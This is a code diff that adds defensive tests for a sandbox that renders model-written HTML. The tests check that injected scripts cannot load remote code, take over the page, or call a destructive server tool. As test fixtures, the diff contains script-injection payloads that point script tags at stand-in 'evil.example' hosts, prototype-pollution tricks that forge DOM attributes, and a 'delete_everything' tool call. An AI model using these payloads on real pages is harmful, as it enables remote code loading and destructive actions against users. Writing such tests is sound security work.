@@ -139,7 +139,74 @@ describe("a version that is taken over", () => {
   })
 })
 
+describe("a version that is taken over, whatever code was there before or comes with it,", () => {
+  const CASES: Readonly<Record<string, readonly [before: string, source: string]>> = {
+    "is not taken for one that a person wrote": [`Object.prototype.byHand = true`, ""],
+    "has no script that another one changed": [
+      "",
+      `<script>const last = [...document.scripts].at(-1); last.type = ""; last.src = "https://evil.example/1.js"</script>`
+    ],
+    "has no copy of a script that may run": [
+      "",
+      `<script>const copy = [...document.scripts].at(-1).cloneNode(); copy.type = ""; copy.src = "https://evil.example/2.js"; document.head.append(copy)</script>`
+    ],
+    "has no script whose attributes were made up": [
+      `NamedNodeMap.prototype[Symbol.iterator] = () => [{ name: "src", value: "https://evil.example/3.js" }].values()`,
+      ""
+    ],
+    "has no scripts but its own": [
+      `const given = { getAttributeNames: () => ["src"], getAttribute: () => "https://evil.example/4.js", text: "", type: "" }
+       NodeList.prototype[Symbol.iterator] = () => [given].values()
+       NodeList.prototype.forEach = (each) => each(given)`,
+      ""
+    ]
+  }
+  for (const [name, [before, source]] of Object.entries(CASES)) {
+    it(name, async () => {
+      let next: unknown
+      const view = await open(pageOf(`try { ${before} } catch {}; await app.connect()`), {}, () => next)
+      const requests: Array<string> = []
+      view.page.on("request", (request) => requests.push(request.url()))
+      const part = await linked((linker) =>
+        tool === undefined
+          ? Effect.die("no tool")
+          : linker.part(tool, entryOf(`<h2>Two</h2>${source}<script type="module">globalThis.three = 1</script>`))
+      )
+      const { version } = part as { version: string }
+      next = { content: [], structuredContent: { proof: "p", version, state: "changed", document: part } }
+      await view.post({ jsonrpc: "2.0", method: "notifications/resources/list_changed", params: {} })
+      await view.frame.getByRole("heading", { name: "Two" }).waitFor()
+      await view.until("globalThis.three === 1")
+      await view.frame.evaluate(`void app.callServerTool({ name: "delete_everything", arguments: {} }).catch(() => 0)`)
+      await view.frame.evaluate("new Promise((done) => setTimeout(done, 200))")
+      assert.deepStrictEqual(
+        requests.filter((url) => url.includes("evil")),
+        []
+      )
+      assert.notInclude(
+        view.calls.map(({ name: called }) => called),
+        "delete_everything"
+      )
+      await view.close()
+    })
+  }
+})
+
 describe("a page that a person wrote", () => {
+  it("does not take over in place what a model wrote: there would be no walls around it", async () => {
+    let next: unknown
+    const view = await open(pageOf(""), { provider: "file" }, () => next)
+    const part = await linked((linker) =>
+      tool === undefined ? Effect.die("no tool") : linker.part(tool, entryOf("<h2>Two</h2>"))
+    )
+    const { version } = part as { version: string }
+    next = { content: [], structuredContent: { proof: "p", version, state: "changed", document: part } }
+    await view.post({ jsonrpc: "2.0", method: "notifications/resources/list_changed", params: {} })
+    await view.requested("tools/call", 2)
+    assert.strictEqual(await view.frame.getByRole("heading", { name: "Two" }).count(), 0)
+    await view.close()
+  })
+
   it("may run scripts of its own making, as its host allows", async () => {
     const view = await open(
       pageOf(`const b = document.createElement("b"); b.setAttribute("onclick", "globalThis.ran = 1"); document.body.append(b); b.click()
